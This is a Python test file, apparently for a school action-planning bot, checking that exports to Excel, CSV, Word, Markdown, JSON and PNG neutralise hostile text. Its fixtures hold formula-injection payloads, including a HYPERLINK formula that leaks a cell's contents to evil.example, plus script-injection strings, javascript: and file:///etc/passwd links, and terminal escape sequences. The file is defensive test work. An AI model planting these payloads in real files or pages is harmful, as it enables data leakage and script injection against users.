"""Hostile school text in every export (issue 11): no live formula, no live markup, no failure.

A plan document is built by hand with formulas, HTML, Markdown, javascript: links and control
characters in every text a school can type, then each export is opened with its own reader
(openpyxl, csv, python-docx, json, Pillow) and checked the way a careful reader would.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import zipfile
from datetime import UTC, date, datetime
from typing import Any

import openpyxl
import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from bot.exports import FORMATS, export, to_csv, to_docx, to_json, to_markdown, to_xlsx
from bot.sanitise import (
    clean_data,
    clean_text,
    link_target,
    markdown_cell,
    markdown_link,
    markdown_text,
    spreadsheet_text,
    spreadsheet_value,
    terminal_safe,
)
from workflows.answers import EvidenceLink, Flag
from workflows.plan import (
    ActionPlan,
    ActionStatus,
    ActionUpdateView,
    PlanDocument,
    PlanRow,
    Summary,
    SummaryRow,
    ThemeProfile,
)

# What a spreadsheet runs as a formula when a cell's text starts with it (OWASP CSV injection).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
MARKUP = "<script>alert('x')</script> [click](javascript:alert(1)) **b** _i_ `c` | p \\ ~s~"
CONTROL = "bell\x01\x07 esc\x1b[31m del\x7f nel\x85 csi\x9b lone\ud800 end\ufffe"
CONTROL_CLEAN = "bell esc[31m del nel csi lone end"
NEXT_STEPS = [HYPERLINK, "+1+1", "-1+1", "@SUM(1,1)", "# heading", MARKUP, CONTROL]
OWNERS = ["=HOFS()", "+SR", "@NR\x01"]
NOTE = "-2 weeks late\x01 <img src=x onerror=alert(1)>"
SAFE_URL = "https://ok.example/a b)c"
DUE = date(2025, 2, 14)


def hostile_document(
    next_steps: list[str] | None = None,
    owners: list[str] | None = None,
    note: str | None = NOTE,
    *,
    text: str = "=Hill School\x01 <script>x</script>",
) -> PlanDocument:
    """A small plan with `text` in every free-text field and the given steps, owners and note."""
    rows = [
        SummaryRow("1.1", f"1.1 {text}", 1, 1, Flag.PRIORITY),
        SummaryRow("1.2", f"1.2 {text}", 1, 3, Flag.STRENGTH),
        SummaryRow("2.1", f"2.1 {text}", 2, None, None),
    ]
    themes = [ThemeProfile(1, text, 2, 2, 2.0), ThemeProfile(2, text, 0, 1, None)]
    plan_row = PlanRow(
        statement_id="1.1",
        leadership_area="\r=1+1 " + text,  # a carriage return, then a formula
        current_level=1,
        current_position="  =1+1 " + text,  # a formula after leading spaces
        target_level=3,
        actions_to_improve="- " + text,
        next_steps=NEXT_STEPS if next_steps is None else next_steps,
        by_when="\t=1+1",
        owners=OWNERS if owners is None else owners,
        due_date=DUE,
        status=ActionStatus.IN_PROGRESS,
        evidence=(
            EvidenceLink(url="javascript:alert(1)", label=text),
            EvidenceLink(url=SAFE_URL, label=f"[{text}]"),
            EvidenceLink(url=" JavaScript:alert(3)", label=None),
        ),
        updates=(
            ActionUpdateView(
                at=datetime(2025, 1, 28, 16, 0, tzinfo=UTC),
                by=text,
                kind="progress",
                note=note,
                link="javascript:alert(2)",
            ),
        ),
    )
    return PlanDocument(
        organisation=text,
        review_title=f"Review {text} $\\foo$",
        edition="school",
        as_of=date(2025, 1, 15),
        summary=Summary(title=f"Review {text} $\\foo$", edition="school", rows=rows, themes=themes),
        plan=ActionPlan(title=text, rows=[plan_row]),
        participants=[text, "=HOFS()"],
        evidence={
            "1.2": [EvidenceLink(url="data:text/html,<script>alert(1)</script>", label=text)]
        },
    )


def without_controls(text: str) -> str:
    """The text as the exports should keep it, worked out independently of bot.sanitise."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return "".join(
        ch
        for ch in text
        if ch in "\t\n"
        or (unicodedata.category(ch) not in ("Cc", "Cs") and ch not in "\ufffe\uffff")
    )


def has_control(text: str) -> bool:
    return without_controls(text) != text


def live_formula(value: str) -> bool:
    """Whether a spreadsheet would run this cell text: it starts (after spaces) with a trigger."""
    return value.startswith(TRIGGERS) or value.lstrip().startswith(TRIGGERS)


def xlsx_cells(data: bytes) -> list[Any]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


def assert_no_formula(data: bytes) -> None:
    """No formula cell in the workbook, read back by openpyxl and in the sheets' raw XML."""
    for cell in xlsx_cells(data):
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str):
            assert not live_formula(cell.value), (cell.coordinate, cell.value)
            assert not has_control(cell.value), (cell.coordinate, cell.value)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name


def csv_fields(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.fixture(scope="module")
def document() -> PlanDocument:
    return hostile_document()


@pytest.fixture(scope="module")
def rendered(document: PlanDocument) -> dict[str, bytes]:
    return {fmt: export(document, fmt) for fmt in FORMATS}


# ----- every format ------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_control_character_in_next_steps_no_longer_fails_the_export(fmt: str) -> None:
    """The issue's case: one stored \\x01 made every Word and Excel export of the school fail."""
    document = hostile_document(next_steps=["Talk to SLT\x01"], owners=["SR"], note=None, text="x")
    data = export(document, fmt)
    assert len(data) > 100
    if fmt in ("csv", "md", "json"):
        text = data.decode("utf-8-sig")
        assert "Talk to SLT" in text and "\x01" not in text and "\\u0001" not in text


# ----- Excel -------------------------------------------------------------------------------


def test_xlsx_has_no_formula_and_keeps_types(rendered: dict[str, bytes]) -> None:
    assert_no_formula(rendered["xlsx"])
    ws = openpyxl.load_workbook(io.BytesIO(rendered["xlsx"]))["Actions"]
    header = [c.value for c in ws[1]]
    row = {name: cell for name, cell in zip(header, ws[2], strict=True)}
    steps = row["Next steps"]
    assert steps.data_type == "s"
    assert steps.value == "'" + "\n".join(without_controls(s) for s in NEXT_STEPS)
    assert steps.value.startswith("'=HYPERLINK(")
    assert row["Owners"].value == "'=HOFS() / +SR / @NR"
    assert row["Owners"].data_type == "s"
    assert row["By when"].value == "'\t=1+1"
    assert row["Leadership area"].value.startswith("'\n=1+1 ")
    assert row["Current position"].value.startswith("'  =1+1 ")
    assert row["Last update"].value.endswith(": -2 weeks late <img src=x onerror=alert(1)>")
    # Numbers and dates stay typed cells.
    assert row["Current level"].value == 1 and row["Current level"].data_type == "n"
    assert row["Target level"].value == 3
    assert row["Due date"].is_date and row["Due date"].value.date() == DUE
    assert row["Status"].value == "In progress"


def test_xlsx_shows_excel_escapes_and_long_text_as_typed() -> None:
    """Excel turns "_x0001_" into U+0001 and refuses cells over 32,767 characters."""
    document = hostile_document(["_x0001_ and _x003D_1+1", "x" * 40_000], ["SR"], text="Hill")
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx(document)))["Actions"]
    header = [c.value for c in ws[1]]
    steps = ws.cell(2, header.index("Next steps") + 1).value
    assert steps.startswith("_x005F_x0001_ and _x005F_x003D_1+1\nxxx")
    assert len(steps) == 32767 and steps.endswith("x…")


# ----- CSV ---------------------------------------------------------------------------------


def test_csv_has_no_live_formula(rendered: dict[str, bytes]) -> None:
    rows = csv_fields(rendered["csv"])
    assert len(rows) == 4  # header, the action and two statements without one
    for row in rows:
        for value in row:
            assert not live_formula(value), value
            assert not has_control(value), value
    header, first = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert header[0] == "Leadership area"
    assert first["Next steps"].startswith("'=HYPERLINK(")
    assert CONTROL_CLEAN in first["Next steps"]
    assert first["Who"] == "'=HOFS() / +SR / @NR"
    assert first["By when"] == "'\t=1+1 (Fri 14 Feb 2025)"
    assert first["Leadership area"].startswith("'\n=1+1 ")
    assert first["Current position"].startswith("Level 1 – ")
    assert rows[2][0] == "1.2 =Hill School <script>x</script>"


# ----- Markdown ----------------------------------------------------------------------------


def test_markdown_shows_markup_as_text(rendered: dict[str, bytes]) -> None:
    text = rendered["md"].decode("utf-8")
    assert "<script" not in text.lower() and "<img" not in text.lower()
    assert not re.search(r"\]\(\s*<?\s*(javascript|data):", text, re.IGNORECASE)
    assert not has_control(text)
    assert "&lt;script&gt;alert('x')&lt;/script&gt;" in text
    assert "&#91;click&#93;(javascript:alert(1))" in text
    assert "\\*\\*b\\*\\* \\_i\\_ \\`c\\` \\| p \\\\ \\~s\\~" in text
    lines = text.splitlines()
    # The title stays one heading line; the school's text opens no block of its own.
    assert lines[0] == (
        "# Careers Leadership action plan and summary - =Hill School &lt;script&gt;x&lt;/script&gt;"
        " - January 2025"
    )
    assert lines[2].startswith("Review =Hill School &lt;script&gt;x&lt;/script&gt; $\\\\foo$ · ")
    # The action plan row keeps its nine columns: every pipe from the school is escaped.
    start = lines.index("## Action plan")
    plan = [line for line in lines[start:] if line.startswith("| <br>=1+1")]
    assert len(plan) == 1 and len(re.findall(r"(?<!\\)\|", plan[0])) == 10
    # Only the http(s) evidence is a link, its URL percent-encoded; the rest is plain text.
    links = re.findall(r"\]\(<([^>]*)>\)", text)
    assert links == ["https://ok.example/a%20b%29c"]
    assert (
        "  - [&#91;=Hill School &lt;script&gt;x&lt;/script&gt;&#93;](<https://ok.example/a%20b%29c>)"
    ) in lines
    assert "  - \\=Hill School &lt;script&gt;x&lt;/script&gt; – javascript:alert(1)" in lines
    assert "  - JavaScript:alert(3)" in lines
    assert any(line.startswith("  - \\=Hill School") and "data:text/html" in line for line in lines)


# ----- Word --------------------------------------------------------------------------------


def test_docx_opens_with_text_as_typed_and_web_links_only(rendered: dict[str, bytes]) -> None:
    doc = Document(io.BytesIO(rendered["docx"]))
    texts = [p.text for p in doc.paragraphs]
    texts += [c.text for table in doc.tables for row in table.rows for c in row.cells]
    assert not any(has_control(t) for t in texts)
    joined = "\n".join(texts)
    assert HYPERLINK in joined  # Word has no formulas: the text shows exactly as typed
    assert CONTROL_CLEAN in joined and "<script>alert('x')</script>" in joined
    assert "javascript:alert(1)" in joined  # shown, not linked
    targets = [
        rel.target_ref
        for rel in doc.part.rels.values()
        if rel.reltype == RELATIONSHIP_TYPE.HYPERLINK
    ]
    assert targets == ["https://ok.example/a%20b%29c"]
    assert doc.core_properties.title.startswith("Careers Leadership action plan")
    assert "\x01" not in doc.core_properties.title


def test_docx_survives_a_very_long_title() -> None:
    """python-docx refuses core properties over 255 characters: the title is cut, not fatal."""
    data = to_docx(hostile_document(text="Academy " * 60))
    assert len(Document(io.BytesIO(data)).core_properties.title) == 255


# ----- JSON and the chart ------------------------------------------------------------------


def test_json_round_trips_without_control_characters(rendered: dict[str, bytes]) -> None:
    data = json.loads(rendered["json"].decode("utf-8"))
    action = data["actions"][0]
    assert action["next_steps"] == [without_controls(s) for s in NEXT_STEPS]
    assert action["next_steps"][-1] == CONTROL_CLEAN
    assert action["owners"] == ["=HOFS()", "+SR", "@NR"]  # data, not a spreadsheet: as typed
    assert action["updates"][0]["note"] == "-2 weeks late <img src=x onerror=alert(1)>"
    assert action["leadership_area"] == "\n=1+1 =Hill School <script>x</script>"
    assert data["organisation"] == "=Hill School <script>x</script>"
    assert [e["url"] for e in action["evidence"]] == [
        "javascript:alert(1)",
        SAFE_URL,
        " JavaScript:alert(3)",
    ]


def test_chart_draws_hostile_titles(rendered: dict[str, bytes]) -> None:
    """A "$\\foo$" in the review title used to be parsed as TeX and fail the drawing."""
    image = Image.open(io.BytesIO(rendered["png"]))
    assert image.format == "PNG" and image.size == (1600, 900)
    assert "\x01" not in image.info.get("Title", "")


# ----- the sanitising functions ------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("a\x01b", "ab"),
        ("tab\tand\nline", "tab\tand\nline"),
        ("crlf\r\nand\rcr", "crlf\nand\ncr"),
        ("del\x7f c1\x85\x9f", "del c1"),
        ("lone\ud83d surrogate \U0001f600", "lone surrogate \U0001f600"),
        ("\ufeffbom kept, \ufffe gone", "\ufeffbom kept,  gone"),
        (CONTROL, CONTROL_CLEAN),
    ],
)
def test_clean_text(raw: str, clean: str) -> None:
    assert clean_text(raw) == clean
    assert clean_text(clean) == clean  # idempotent


def test_clean_data_walks_documents_and_keeps_enums() -> None:
    document = clean_data(hostile_document())
    row = document.plan.rows[0]
    assert row.status is ActionStatus.IN_PROGRESS
    assert document.summary.rows[0].flag is Flag.PRIORITY
    assert row.next_steps[-1] == CONTROL_CLEAN
    assert row.owners == ["=HOFS()", "+SR", "@NR"]
    assert row.updates[0].note == "-2 weeks late <img src=x onerror=alert(1)>"
    assert isinstance(row.evidence, tuple) and row.evidence[0].label == document.organisation
    assert document.evidence["1.2"][0].label == document.organisation
    assert row.due_date == DUE


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"),  # carriage return made a line break, still neutralised
        ("   =1", "'   =1"),
        ("\n@x", "'\n@x"),
        ("a=1", "a=1"),
        ("", ""),
        ("SR", "SR"),
        ("x\x01=", "x="),
    ],
)
def test_spreadsheet_text(raw: str, safe: str) -> None:
    assert spreadsheet_text(raw) == safe


def test_spreadsheet_value_keeps_numbers_and_dates() -> None:
    assert spreadsheet_value(-3) == -3
    assert spreadsheet_value(2.5) == 2.5
    assert spreadsheet_value(DUE) == DUE
    assert spreadsheet_value(None) is None
    assert spreadsheet_value("-3") == "'-3"


@pytest.mark.parametrize(
    ("raw", "markdown"),
    [
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("[x](javascript:alert(1))", "&#91;x&#93;(javascript:alert(1))"),
        ("# Title", "\\# Title"),
        ("- item", "\\- item"),
        ("1. item", "1\\. item"),
        ("two\n# lines", "two # lines"),
        ("a & b", "a &amp; b"),
        ("*_`|\\~", "\\*\\_\\`\\|\\\\\\~"),
        ("HT3 (Fri 14 Feb 2025) – SR", "HT3 (Fri 14 Feb 2025) – SR"),
        (None, ""),
    ],
)
def test_markdown_text(raw: str | None, markdown: str) -> None:
    assert markdown_text(raw) == markdown


def test_markdown_cell() -> None:
    assert markdown_cell("a | b\n <b>c</b>\x01") == "a \\| b<br>&lt;b&gt;c&lt;/b&gt;"
    assert markdown_cell("1. first") == "1. first"  # inline content only: no list in a cell
    assert markdown_cell(None) == ""


@pytest.mark.parametrize(
    ("url", "target"),
    [
        ("https://school.example/plan", "https://school.example/plan"),
        ("HTTP://school.example/a b", "HTTP://school.example/a%20b"),
        ("https://school.example/(x)", "https://school.example/%28x%29"),
        ("https://school.example/a%20b?q=1&r=[2]#f", "https://school.example/a%20b?q=1&r=[2]#f"),
        ("https://school.example/<script>", "https://school.example/%3Cscript%3E"),
        ("  https://school.example/x\x01", "https://school.example/x"),
        ("javascript:alert(1)", None),
        ("JaVaScRiPt:alert(1)", None),
        ("\x01javascript:alert(1)", None),
        ("data:text/html,<script>", None),
        ("file:///etc/passwd", None),
        ("https:no-host", None),
        ("https://[::1", None),
        ("", None),
        (None, None),
    ],
)
def test_link_target(url: str | None, target: str | None) -> None:
    assert link_target(url) == target


def test_markdown_link() -> None:
    assert markdown_link("https://a.example/x)", "Plan [v2]") == (
        "[Plan &#91;v2&#93;](<https://a.example/x%29>)"
    )
    assert markdown_link("https://a.example/") == "[https://a.example/](<https://a.example/>)"
    assert markdown_link("javascript:alert(1)", "Click") == "Click – javascript:alert(1)"
    assert markdown_link("javascript:alert(1)") == "javascript:alert(1)"


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b[2J\x1b[Hcleared", "cleared"),
        ("\x1b]0;new title\x07after", "after"),
        ("\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("\x1bPdevice\x1b\\text", "text"),
        ("\x1bcreset", "reset"),
        ("\x9b2Jcsi", "csi"),
        ("bell\x07 and\r\nlines\tkept", "bell and\nlines\tkept"),
        ("lone \x1b", "lone "),
    ],
)
def test_terminal_safe(raw: str, shown: str) -> None:
    assert terminal_safe(raw) == shown


# ----- properties: any text at all ---------------------------------------------------------

# Any code point, lone surrogates and control characters included, often led by a trigger.
_ANY_CHAR = st.one_of(
    st.characters(exclude_categories=()),
    st.characters(categories=["Cs"]),
    st.characters(max_codepoint=0x9F, categories=["Cc"]),
)
_ANY_TEXT = st.text(alphabet=_ANY_CHAR, max_size=30)
HOSTILE_TEXT = st.one_of(
    _ANY_TEXT,
    st.builds(
        lambda lead, rest: lead + rest,
        st.sampled_from(["=", "+", "-", "@", "\t", "\r", "  =", "\n@", "\x01=", "<", "["]),
        _ANY_TEXT,
    ),
)


def _check_spreadsheets_and_data(document: PlanDocument, note: str) -> None:
    assert_no_formula(to_xlsx(document))
    for row in csv_fields(to_csv(document)):
        assert not any(live_formula(value) for value in row)
    markdown = to_markdown(document).decode("utf-8")
    assert "<script" not in markdown.lower() and not has_control(markdown)
    data = json.loads(to_json(document))
    assert data["actions"][0]["updates"][0]["note"] == without_controls(note)


@settings(max_examples=60, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow])  # fmt: skip
@given(step=HOSTILE_TEXT, owner=HOSTILE_TEXT, note=HOSTILE_TEXT)
def test_any_text_exports_to_spreadsheets_markdown_and_json(
    step: str, owner: str, note: str
) -> None:
    document = hostile_document([step, "<script>x</script>"], [owner], note, text="Hill")
    _check_spreadsheets_and_data(document, note)
    data = json.loads(to_json(document))
    assert data["actions"][0]["next_steps"][0] == without_controls(step)
    assert data["actions"][0]["owners"] == [without_controls(owner)]


@pytest.mark.filterwarnings("ignore:Glyph .* missing from font")  # the chart lacks rare scripts
@settings(max_examples=12, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow])  # fmt: skip
@given(text=HOSTILE_TEXT)
def test_any_text_everywhere_exports_in_every_format(text: str) -> None:
    """The same text in every field (titles, labels, owners, notes): each format still builds."""
    document = hostile_document([text], [text], text, text=text)
    for fmt in FORMATS:
        assert export(document, fmt)
    _check_spreadsheets_and_data(document, text)
    doc = Document(io.BytesIO(to_docx(document)))
    assert not any(has_control(p.text) for p in doc.paragraphs)
